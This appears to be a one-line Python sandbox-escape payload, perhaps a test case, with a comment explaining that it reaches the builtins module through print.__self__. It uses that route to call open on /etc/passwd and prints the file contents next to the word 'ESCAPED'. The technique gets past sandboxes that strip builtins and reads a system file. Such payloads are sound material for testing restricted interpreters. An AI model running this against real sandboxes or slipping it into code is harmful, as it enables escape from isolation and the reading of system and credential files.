# builtins module through a builtin function's __self__
print("ESCAPED", print.__self__.open("/etc/passwd").read())
